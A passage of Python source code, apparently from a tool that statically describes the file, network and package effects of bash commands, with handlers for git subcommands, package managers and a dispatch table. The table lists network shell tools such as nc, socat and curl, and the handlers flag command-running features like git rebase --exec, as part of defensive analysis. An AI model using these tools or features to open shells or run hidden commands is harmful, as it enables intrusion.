    setting = len(operands) >= 2 or opts.has("--add", "--replace-all", "--unset", "--unset-all", "-e", "--edit")
    if operands and setting:
        _git_config_key(d, operands[0])
        if opts.has("--global"):
            d.write(Word.of(f"{d.home}/.gitconfig"), call)
        elif opts.has("--system"):
            d.write(Word.of("/etc/gitconfig"), call)
        for word in opts.values("-f", "--file"):
            d.write(word, call)


def _git_submodule(d: _Describer, call: _Call, rest: list[Word]) -> None:
    action = next((w for w in rest if not w.value.startswith("-")), None)
    if action is None:
        return
    if action.value == "foreach":
        d.opaque("git submodule foreach runs a shell command in every submodule")
    elif action.value == "add":
        urls = [w for w in rest[rest.index(action) + 1 :] if not w.value.startswith("-")]
        if urls:
            _git_url(d, call, urls[0], reading=True)
    elif action.value in ("update", "sync", "init") and action.value != "init":
        d.network.append(NetworkEffect(host="git-remote:submodules", via="git"))


def _git_remote_cmd(d: _Describer, call: _Call, rest: list[Word]) -> None:
    values = [w.value for w in rest]
    if values[:1] == ["update"]:
        d.network.append(NetworkEffect(host="git-remote:default", via="git"))
    if values[:1] in (["add"], ["set-url"]):
        for word in rest[1:]:
            if "::" in word.value and "://" not in word.value.split("::", 1)[0]:
                d.opaque(f"git remote helper {_short(word.value)} runs a program")


def _git_rebase(d: _Describer, call: _Call, rest: list[Word]) -> None:
    opts = d.options(call, "xsXo", ("--exec", "--strategy", "--strategy-option", "--onto"), args=rest)
    for word in opts.values("-x", "--exec"):
        d.run_text(word, call)


def _git_bisect(d: _Describer, call: _Call, rest: list[Word]) -> None:
    if rest and rest[0].value == "run":
        d.inner(rest[1:], call)


def _git_filter(d: _Describer, call: _Call, rest: list[Word]) -> None:
    d.opaque("git filter-branch runs shell filters on every commit")


_GIT_SUBCOMMANDS: dict[str, Callable[[_Describer, _Call, list[Word]], None]] = {
    "reset": _git_reset,
    "clean": _git_clean,
    "rm": _git_rm,
    "mv": _git_mv,
    "config": _git_config,
    "submodule": _git_submodule,
    "remote": _git_remote_cmd,
    "rebase": _git_rebase,
    "bisect": _git_bisect,
    "filter-branch": _git_filter,
}


# --------------------------------------------------------------------------------------------------
# Handlers: package managers
# --------------------------------------------------------------------------------------------------

_PIP_SHORT = "rceitfCb"
_PIP_LONG = (
    "--requirement --constraint --editable --target --index-url --extra-index-url --find-links --config-settings "
    "--prefix --root --src --upgrade-strategy --python-version --platform --implementation --abi --only-binary "
    "--no-binary --progress-bar --log --proxy --cert --client-cert --cache-dir --exists-action --trusted-host "
    "--retries --timeout --global-option --install-option --report --python --dest --build"
).split()
_PIP_INSTALL = frozenset({"install", "uninstall", "download"})


def _pip(d: _Describer, call: _Call) -> None:
    _pip_command(d, call, call.args, runner=call.words[0])


def _pip_command(d: _Describer, call: _Call, args: list[Word], runner: Word, uv: bool = False) -> None:
    """pip (also ``python -m pip`` and ``uv pip``): packages, their scope, and the indexes contacted."""
    opts = d.options(call, _PIP_SHORT, _PIP_LONG, known=("--user", "--no-index", "--system", "--dry-run"), args=args)
    operands = list(opts.operands)
    sub = operands.pop(0).value if operands else ""
    if sub not in _PIP_INSTALL:
        return
    names = [w.value for w in operands]
    names += [f"-r {w.value}" for w in opts.values("-r", "--requirement")]
    names += [f"-e {w.value}" for w in opts.values("-e", "--editable")]
    for word in opts.values("-r", "--requirement", "-c", "--constraint"):
        d.read(word, call)
    if sub == "download":
        for word in opts.values("-d", "--dest"):
            d.write(word, call)
    else:
        d.package("pip", names, _pip_scope(d, runner, opts, uv), call)
    if sub != "uninstall":
        _pip_network(d, call, opts, operands)


def _pip_scope(d: _Describer, runner: Word, opts: _Opts, uv: bool) -> str:
    """local only when the target is visibly inside the workspace; a bare pip could be any interpreter."""
    if opts.has("--user"):
        return "global"
    targets = opts.values("-t", "--target", "--prefix", "--root")
    if targets:
        return "local" if all(d.in_workspace(w) for w in targets) else "global"
    pythons = opts.values("--python")
    if pythons:
        return "local" if all(d.in_workspace(w) for w in pythons) else "global"
    if uv:
        return "global" if opts.has("--system") else "local"
    return "local" if "/" in runner.value and d.in_workspace(runner) else "global"


def _pip_network(d: _Describer, call: _Call, opts: _Opts, operands: list[Word]) -> None:
    pip_call = replace(call, name="pip")
    if not opts.has("--no-index"):
        d.network.append(NetworkEffect(host="pypi.org", via="pip"))
    for word in opts.values("-i", "--index-url", "--extra-index-url", "--proxy"):
        d.url(word, pip_call)
    for word in opts.values("-f", "--find-links"):
        if "://" in word.value:
            d.url(word, pip_call)
    for word in operands:
        url = word.value.split("@", 1)[1].strip() if " @ " in word.value else word.value
        if "://" in url:
            d.url(replace(word, value=url.split("+", 1)[-1] if url.startswith(("git+", "hg+")) else url), pip_call)


def _uv(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "p", ("--python", "--directory", "--project", "--cache-dir"), stop=True)
    operands = opts.operands
    sub = operands[0].value if operands else ""
    rest = operands[1:]
    if sub == "pip":
        _pip_command(d, call, rest, runner=call.words[0], uv=True)
    elif sub in ("add", "remove"):
        names = [w.value for w in d.options(call, "", ("--group", "--optional", "--extra"), args=rest).operands]
        d.package("pip", names, "local", call)
        d.network.append(NetworkEffect(host="pypi.org", via="uv"))
    elif sub == "tool" and rest and rest[0].value in ("install", "upgrade"):
        d.package("pip", [w.value for w in rest[1:] if not w.value.startswith("-")], "global", call)
        d.network.append(NetworkEffect(host="pypi.org", via="uv"))
    elif sub in ("sync", "lock") or (sub == "tool" and rest and rest[0].value == "run"):
        d.network.append(NetworkEffect(host="pypi.org", via="uv"))
    elif sub == "run":
        run = d.options(call, "p", ("--with", "--python", "--extra", "--group", "--env-file", "--package"), stop=True)
        d.network.append(NetworkEffect(host="pypi.org", via="uv"))
        d.inner(d.options(call, "p", ("--with", "--python", "--extra", "--group"), args=rest, stop=True).operands, call)
        del run
    elif sub == "venv":
        for word in [w for w in rest if not w.value.startswith("-")][:1] or [Word.of(".venv")]:
            d.write(word, call)


def _uvx(d: _Describer, call: _Call) -> None:
    d.network.append(NetworkEffect(host="pypi.org", via=call.name))


def _pipx(d: _Describer, call: _Call) -> None:
    operands = [w for w in call.args if not w.value.startswith("-")]
    sub = operands[0].value if operands else ""
    if sub in ("install", "inject", "upgrade", "reinstall", "uninstall"):
        d.package("pipx", [w.value for w in operands[1:]], "global", call)
    if sub in ("install", "inject", "upgrade", "reinstall", "run"):
        d.network.append(NetworkEffect(host="pypi.org", via="pipx"))


_NPM_INSTALL = frozenset(
    "install i in ins inst insta instal isnt isnta isntal isntall add ci install-clean update up upgrade udpate".split()
)
_NPM_REMOVE = frozenset("uninstall un unlink remove rm r".split())
_NPM_FETCH_RUN = frozenset({"exec", "x", "dlx", "create", "init"})


def _npm_like(d: _Describer, call: _Call) -> None:
    """npm, yarn, pnpm, bun: install/add/remove (local unless global), and commands that fetch and run."""
    opts = d.options(
        call, "wC", ("--registry", "--prefix", "--workspace", "--location", "--tag", "--filter", "--dir", "--cwd")
    )
    operands = [w.value for w in opts.operands]
    manager = call.name
    global_ = opts.has("-g", "--global") or any(w.value == "global" for w in opts.values("--location"))
    if manager == "yarn" and operands[:1] == ["global"]:
        global_ = True
        operands = operands[1:]
    sub = operands[0] if operands else ("install" if manager == "yarn" else "")
    names = operands[1:]
    offline = opts.has("--offline")
    registry = {"npm": "registry.npmjs.org", "pnpm": "registry.npmjs.org"}.get(manager, "registry.npmjs.org")
    if manager == "yarn":
        registry = "registry.yarnpkg.com"
    if sub in _NPM_INSTALL or sub in _NPM_REMOVE:
        d.package(manager, names, "global" if global_ else "local", call)
    if (sub in _NPM_INSTALL or sub in _NPM_FETCH_RUN or sub == "publish") and not offline:
        d.network.append(NetworkEffect(host=registry, via=manager))
        for word in opts.values("--registry"):
            d.url(word, call)


def _npx(d: _Describer, call: _Call) -> None:
    d.network.append(NetworkEffect(host="registry.npmjs.org", via=call.name))


def _system_packages(host: str, installs: Iterable[str], fetches: Iterable[str] = ("update",)) -> Handler:
    """apt, dnf, yum, apk, brew: always global; installs and updates contact the distribution's mirrors."""
    installs = frozenset(installs)
    fetches = frozenset(fetches) | installs

    def handler(d: _Describer, call: _Call) -> None:
        opts = d.options(call, "otcXC", ("--option", "--target-release", "--config-file", "--repository", "--setopt"))
        if opts.values("-o", "--option", "-c", "--config-file"):
            d.opaque(f"{call.name} -o/-c options can make it run commands")
        operands = [w.value for w in opts.operands]
        sub = operands[0] if operands else ""
        if sub in installs:
            d.package(call.name, operands[1:], "global", call)
        if sub in fetches:
            d.network.append(NetworkEffect(host=host, via=call.name))
        for word in opts.values("-X", "--repository"):
            d.url(word, call)

    return handler


def _cargo(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "Zj", ("--git", "--path", "--root", "--version", "--branch", "--tag", "--rev", "--jobs"))
    operands = [w.value for w in opts.operands]
    sub = operands[0] if operands else ""
    if sub in ("install", "uninstall"):
        d.package("cargo", operands[1:], "global", call)
    elif sub in ("add", "remove"):
        d.package("cargo", operands[1:], "local", call)
    if sub in ("install", "add"):
        d.network.append(NetworkEffect(host="crates.io", via="cargo"))
        for word in opts.values("--git"):
            d.url(word, call)


def _gem(d: _Describer, call: _Call) -> None:
    opts = d.options(call, "ivs", ("--install-dir", "--version", "--source", "--bindir"))
    operands = [w.value for w in opts.operands]
    sub = operands[0] if operands else ""
    if sub not in ("install", "update", "uninstall"):
        return
    dirs = opts.values("-i", "--install-dir")
    local = bool(dirs) and all(d.in_workspace(w) for w in dirs)
    d.package("gem", operands[1:], "local" if local else "global", call)
    if sub != "uninstall":
        d.network.append(NetworkEffect(host="rubygems.org", via="gem"))
        for word in opts.values("-s", "--source"):
            d.url(word, call)


def _go(d: _Describer, call: _Call) -> None:
    operands = [w.value for w in call.args if not w.value.startswith("-")]
    sub = operands[0] if operands else ""
    if sub in ("install", "get"):
        d.package("go", operands[1:], "global" if sub == "install" else "local", call)
        d.network.append(NetworkEffect(host="proxy.golang.org", via="go"))
    elif sub == "mod" and operands[1:2] in (["download"], ["tidy"]):
        d.network.append(NetworkEffect(host="proxy.golang.org", via="go"))


def _virtualenv(d: _Describer, call: _Call) -> None:
    for word in d.options(call, "p", ("--python", "--prompt")).operands[:1]:
        d.write(word, call)


def _noop(d: _Describer, call: _Call) -> None:
    """Known programs with no file, network or package effects worth stating."""


# --------------------------------------------------------------------------------------------------
# The dispatch table
# --------------------------------------------------------------------------------------------------

HANDLERS: dict[str, Handler] = {
    # reading
    "cat": _reads(),
    "tac": _reads("s", ("--separator",)),
    "head": _reads("nc", ("--lines", "--bytes")),
    "tail": _reads("ncs", ("--lines", "--bytes", "--pid", "--sleep-interval", "--max-unchanged-stats")),
    "less": _reads("bhjkoOpPtTxyz", ("--log-file", "--pattern", "--tag")),
    "more": _reads("n"),
    "nl": _reads("bdfhilnsvw"),
    "wc": _reads("", ("--files0-from",)),
    "od": _reads("AjNSstw"),
    "hexdump": _reads("enfs"),
    "strings": _reads("ntTe"),
    "file": _reads("mfF"),
    "stat": _reads("c", ("--format", "--printf")),
    "ls": _reads("IwT", ("--ignore", "--hide", "--width", "--tabsize", "--format", "--sort", "--time-style")),
    "tree": _reads("LPIoH"),
    "du": _reads("BdtX", ("--block-size", "--max-depth", "--threshold", "--exclude-from", "--exclude")),
    "md5sum": _reads(),
    "sha1sum": _reads(),
    "sha256sum": _reads(),
    "sha512sum": _reads(),
    "b2sum": _reads(),
    "cksum": _reads(),
    "base64": _reads("w", ("--wrap",)),
    "base32": _reads("w", ("--wrap",)),
    "basenc": _reads("w", ("--wrap",)),
    "diff": _reads("CUDFILSxX", ("--label", "--from-file", "--to-file", "--exclude", "--exclude-from", "--ifdef")),
    "cmp": _cmp,
    "cut": _reads("bcdf", ("--bytes", "--characters", "--delimiter", "--fields", "--output-delimiter")),
    "paste": _reads("d", ("--delimiters",)),
    "comm": _reads("", ("--output-delimiter",)),
    "join": _reads("12aejotv"),
    "sort": _sort,
    "uniq": _uniq,
    "grep": _GREP,
    "egrep": _GREP,
    "fgrep": _GREP,
    "rg": _RG,
    "sed": _sed,
    "awk": _awk,
    "gawk": _awk,
    "mawk": _awk,
    "nawk": _awk,
    "xxd": _xxd,
    "openssl": _openssl,
    # writing and deleting
    "tee": _tee,
    "touch": _touch,
    "mkdir": _mkdir,
    "truncate": _truncate,
    "cp": _copy_like(remove_sources=False),
    "mv": _copy_like(remove_sources=True),
    "ln": _ln,
    "install": _install,
    "chmod": _chmod_like(mode_arg=True),
    "chown": _chmod_like(mode_arg=False),
    "chgrp": _chmod_like(mode_arg=False),
    "dd": _dd,
    "tar": _tar,
    "patch": _patch,
    "rsync": _rsync,
    "rm": _rm,
    "rmdir": _rmdir,
    "unlink": _rmdir,
    "shred": _shred,
    "find": _find,
    # wrappers
    "sudo": _sudo,
    "sudoedit": _sudo,
    "doas": _wrapper("Cu", known=()),
    "pkexec": _wrapper("", ("--user",), ("--disable-internal-agent", "--keep-cwd")),
    "run0": _wrapper(
        "ugD",
        ("--user", "--group", "--nice", "--chdir", "--setenv", "--property", "--unit", "--description", "--slice")
        + ("--machine", "--background", "--shell-prompt-prefix"),
    ),
    "su": _su,
    "env": _env,
    "nice": _wrapper("n", ("--adjustment",)),
    "ionice": _ionice,
    "nohup": _wrapper(),
    "timeout": _timeout,
    "time": _time,
    "command": _command_builtin,
    "builtin": _wrapper(),
    "exec": _exec,
    "stdbuf": _wrapper("ioe", ("--input", "--output", "--error")),
    "setsid": _wrapper(known=("--ctty", "--fork", "--wait")),
    "busybox": _busybox,
    "xargs": _xargs,
    "watch": _watch,
    "eval": _eval,
    "source": _source,
    ".": _source,
    "alias": _alias,
    "trap": _trap,
    "hash": _hash,
    "let": _let,
    "cd": _cd,
    "pushd": _cd,
    "popd": _cd,
    # interpreters
    **{name: _shell for name in _SHELLS},
    "python": _python,
    "node": _interpreter("ep", "rC"),
    "perl": _interpreter("eE", "IMmlFCDx0", inplace=True),
    "ruby": _interpreter("e", "IrCEFx", inplace=True),
    "php": _interpreter("rBRFE", "dcztS"),
    # network
    "curl": _curl,
    "wget": _wget,
    "http": _httpie,
    "https": _httpie,
    "xh": _httpie,
    "xhs": _httpie,
    "ssh": _ssh,
    "scp": _scp,
    "sftp": _sftp,
    "nc": _netcat,
    "ncat": _netcat,
    "netcat": _netcat,
    "socat": _socat,
    "telnet": _first_host("lneXkb"),
    "ping": _first_host("cistWwIlpQSMFmT"),
    "ping6": _first_host("cistWwIlpQSMFmT"),
    "traceroute": _first_host("fgimNptqswzA"),
    "tracepath": _first_host("lmp"),
    "mtr": _first_host("acfimpsBGQTUIZ"),
    "ftp": _first_host("P"),
    "tftp": _first_host("m"),
    "lftp": _first_host("efcup"),
    "whois": _first_host("hpiTsgS"),
    "dig": _dns,
    "nslookup": _dns,
    "host": _dns,
    "git": _git,
    # packages
    "pip": _pip,
    "uv": _uv,
    "uvx": _uvx,
    "pipx": _pipx,
    "npm": _npm_like,
    "yarn": _npm_like,
    "pnpm": _npm_like,
    "bun": _npm_like,
    "npx": _npx,
    "bunx": _npx,
    "apt": _system_packages(
        "deb.debian.org",
        ("install", "reinstall", "remove", "purge", "build-dep"),
        ("update", "upgrade", "full-upgrade", "dist-upgrade", "source", "download"),
    ),
    "apt-get": _system_packages(
        "deb.debian.org",
        ("install", "reinstall", "remove", "purge", "build-dep"),
        ("update", "upgrade", "full-upgrade", "dist-upgrade", "source", "download"),
    ),
    "aptitude": _system_packages("deb.debian.org", ("install", "reinstall", "remove", "purge"), ("update", "upgrade")),
    "dnf": _system_packages(
        "mirrors.fedoraproject.org",
        ("install", "reinstall", "remove", "erase", "downgrade"),
        ("update", "upgrade", "makecache"),
    ),
    "yum": _system_packages(
        "mirrors.fedoraproject.org",
        ("install", "reinstall", "remove", "erase", "downgrade"),
        ("update", "upgrade", "makecache"),
    ),
    "microdnf": _system_packages(
        "mirrors.fedoraproject.org", ("install", "reinstall", "remove"), ("update", "upgrade")
    ),
    "apk": _system_packages("dl-cdn.alpinelinux.org", ("add", "del"), ("update", "upgrade", "fix")),
    "brew": _system_packages(
        "formulae.brew.sh", ("install", "reinstall", "uninstall", "remove"), ("update", "upgrade", "tap")
    ),
    "cargo": _cargo,
    "gem": _gem,
    "go": _go,
    "virtualenv": _virtualenv,
    # known, nothing to add
    **{name: _noop for name in ("echo", "printf", "true", "false", ":", "pwd", "test", "[", "read", "exit")},
}

# Names a function definition must not take over (HANDLERS keys are checked too).
_COMMON_NAMES = frozenset(
    "ls cd echo printf test true false pwd read exit return set shift export unset type which whoami id make "
    "pytest python3 git sudo kill ps grep cat rm mv cp mkdir chmod chown sh bash command builtin exec source "
    "eval trap alias history jobs wait sleep date env".split()
)


def describe_command(command: str, workspace: Workspace, cwd: Path) -> Effects:
    """The facts of running ``command`` with bash in ``cwd`` (an absolute path, normally inside the workspace)."""
    describer = _Describer(workspace, Path(cwd))
    try:
        describer.describe(command, _Ctx())
    except RecursionError:
        describer.opaque("command is nested too deeply to analyse")
    return describer.effects()
